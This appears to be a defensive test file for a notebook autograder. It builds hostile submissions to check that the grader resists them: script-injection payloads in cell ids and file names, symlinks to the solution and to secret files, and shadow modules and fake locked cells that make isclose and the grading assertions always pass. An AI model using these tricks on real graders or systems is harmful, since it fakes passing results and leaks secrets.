        kernelspec={"name": HOSTILE_HTML, "display_name": HOSTILE_HTML, "language": HOSTILE_HTML},
        authors=[{"name": HOSTILE_HTML}],
    )
    for cell in document["cells"]:
        cell["id"] = '"><script>window.__pwned=1</script>'
        cell["metadata"].update(tags=[HOSTILE_HTML], slideshow={"slide_type": HOSTILE_HTML})
        cell["metadata"].setdefault("nbgrader", {})["comment"] = HOSTILE_HTML
    path.write_text(json.dumps(document), "utf-8")


@attack(PAGES)
def script_in_file_names(desk: Desk) -> None:
    """HTML, wildcards and format strings in the names of the files that are handed in."""
    in_mean(desk, "x = 1")
    names = [
        "<img src=x onerror=window.__pwned=1>",
        "{0.__class__}",
        "[a-z]*",
        "%(x)s",
        "-rf",
        "a\nb",
    ]
    for name in names:
        (desk.folder / f"{name}.txt").write_text(SCRIPT)
        (desk.folder / f"{name}.ipynb").write_text(json.dumps(v4.new_notebook()))
        (desk.folder / f"{name}.html").write_text(SCRIPT)


# The file itself -----------------------------------------------------------------------------------

FILES = "hostile files"


@attack(FILES, {})
def links_to_other_places(desk: Desk) -> None:
    """Links to the solution, to a neighbour's work and to secrets, in place of its own files."""
    root = desk.source.parents[1]
    (desk.folder / "1-mean.ipynb").unlink()
    (desk.folder / "1-mean.ipynb").symlink_to(desk.source / "1-mean.ipynb")
    (desk.folder / "2-mean.ipynb").symlink_to("../../a-complete/numbers/1-mean.ipynb")
    (desk.folder / "bits.txt").unlink()
    (desk.folder / "bits.txt").symlink_to(root / "secret.txt")
    (desk.folder / "timestamp.txt").symlink_to(root / "secret.txt")
    (desk.folder / "all").symlink_to(root)


@attack(FILES, {})
def folders_in_place_of_files(desk: Desk) -> None:
    """Folders where the grader opens files."""
    for name in ("1-mean.ipynb", "timestamp.txt"):
        (desk.folder / name).unlink(missing_ok=True)
        (desk.folder / name).mkdir()
        (desk.folder / name / "inner.txt").write_text("x")


@attack(FILES, {})
def a_folder_in_place_of_the_course_s_file(desk: Desk) -> None:
    """A folder under the name of a file that the assignment gives out."""
    (desk.folder / "bits.txt").unlink()
    (desk.folder / "bits.txt").mkdir()
    (desk.folder / "bits.txt" / "inner.txt").write_text("x")


@attack(FILES)
def brings_the_graders_modules(desk: Desk) -> None:
    """Modules with the names of the grader's own and of the tests', to be imported first."""
    in_mean(desk, "import sitecustomize, math")
    for name in (
        "sitecustomize",
        "math",
        "autograder",
        "numpy",
        "nbgrader_config",
        "usercustomize",
    ):
        (desk.folder / f"{name}.py").write_text(
            "import builtins\nbuiltins.isclose = lambda *a: True\n"
        )


@attack(FILES, {})
def every_cell_named_as_a_test(desk: Desk) -> None:
    """Cells of its own under the names and with the ids of the locked ones."""
    nb = desk.read("1-mean")
    for number, name in enumerate(
        ("numbers-1-mean-test", "numbers-1-mean", "numbers-1-spread-test")
    ):
        fake = v4.new_code_cell("import math\ndef isclose(*a): return True", id=f"{name}")
        fake.metadata["nbgrader"] = {"grade_id": name, "points": 50, "grade": True, "locked": True,
                                     "solution": False, "schema_version": 3, "task": False}  # fmt: skip
        nb.cells.insert(number, fake)
        nb.cells.append(fake.copy())
    (desk.folder / "1-mean.ipynb").write_text(json.dumps(nb), "utf-8")  # nbformat would refuse


@attack(FILES, {})
def names_from_the_test(desk: Desk) -> None:
    """Answers that define what the tests themselves use."""
    helper = """
        import math, builtins
        isclose = math.isclose = lambda *a, **k: True
        canary = True
        class AssertionError(Exception): pass
        """
    desk.answer("1-mean", "numbers-1-mean", clean(helper))
    desk.answer("1-mean", "numbers-1-spread", "sum = sorted = len = lambda *a: 0")
